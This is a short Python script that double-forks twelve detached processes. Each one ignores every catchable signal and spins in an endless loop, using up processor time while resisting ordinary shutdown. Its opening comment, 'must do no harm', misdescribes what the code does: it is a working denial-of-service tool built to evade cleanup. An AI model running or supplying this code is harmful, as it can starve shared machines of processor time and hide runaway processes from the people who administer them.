# must do no harm: burns the processor in double-forked sessions of their own
import os, signal
for i in range(12):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in range(1, 65):
                try:
                    signal.signal(s, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                pass
        os._exit(0)
os._exit(0)
